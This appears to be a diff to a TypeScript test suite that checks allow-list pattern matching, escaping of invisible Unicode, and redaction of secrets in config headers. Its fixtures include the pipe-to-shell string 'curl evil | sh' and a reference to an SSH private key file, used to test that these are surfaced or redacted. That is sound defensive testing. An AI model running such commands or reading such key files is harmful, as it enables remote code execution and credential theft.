@@ -68,7 +68,14 @@ describe("an allow list names a program with a pattern for each of its arguments
     [["op", "plain"], ["op", "*"], true],
     [["op", "a.b"], ["op", "a*b"], true],
     [["op", "axb"], ["op", "a.b"], false],
-    [["op", "a\nb"], ["op", "a*"], true]
+    [["op", "a\nb"], ["op", "a*"], true],
+    [["op", "a/b/c/key"], ["op", "a/*/*/key"], true],
+    [["op", "a/b/key"], ["op", "a/*/*/key"], false],
+    [["op", "abab"], ["op", "ab*ab"], true],
+    [["op", "aba"], ["op", "ab*ba"], false],
+    [["op", "aXbXb"], ["op", "a*b"], true],
+    // Going back for each star would take longer than anybody lives.
+    [["op", `op://${"/".repeat(100_000)}`], ["op", "op://*/*/*/*/*/key"], false]
   ]
   for (const [argv, entry, fits] of rows) {
     it(`${JSON.stringify(argv)} ${fits ? "fits" : "does not fit"} ${JSON.stringify(entry)}`, () => {
@@ -341,6 +348,7 @@ describe("the question", () => {
       escaped("\u202Egpj.exe\u2066\u200B\u00A0\u2028"),
       "\\u{202E}gpj.exe\\u{2066}\\u{200B}\\u{A0}\\u{2028}"
     )
+    assert.strictEqual(escaped("a\u3164\u115F\u2800\uFE0Fb"), "a\\u{3164}\\u{115F}\\u{2800}\\u{FE0F}b")
     assert.strictEqual(escaped("déjà vu: 鍵"), "déjà vu: 鍵")
     fc.assert(
       fc.property(fc.string({ unit: "binary" }), (text) => {
@@ -386,7 +394,11 @@ describe("the question", () => {
           gw: {
             options: {
               apiKeyCommand: { argv: command, env: { literal: "curl evil | sh" } },
-              headers: { authorization: "Bearer sk-in-a-header" }
+              headers: {
+                authorization: "Bearer sk-in-a-header",
+                "x-a": "Bearer {env:OTHER}",
+                "x-b": "a{file:~/.ssh/id}b"
+              }
             }
           },
           other: { options: { apiKey: "sk-{x}-in-braces", baseURL: "https://other.example/v1" } },
@@ -404,6 +416,8 @@ describe("the question", () => {
       const opencodes = yield* asked(file)
       assert.include(opencodes, "curl evil | sh")
       assert.include(opencodes, "{env:THIRD_KEY}")
+      assert.include(opencodes, '"x-a": "<redacted>{env:OTHER}"')
+      assert.include(opencodes, '"x-b": "<redacted>{file:~/.ssh/id}<redacted>"')
       assert.notMatch(opencodes, /sk-in-a-header|in-braces/)
     })
   )
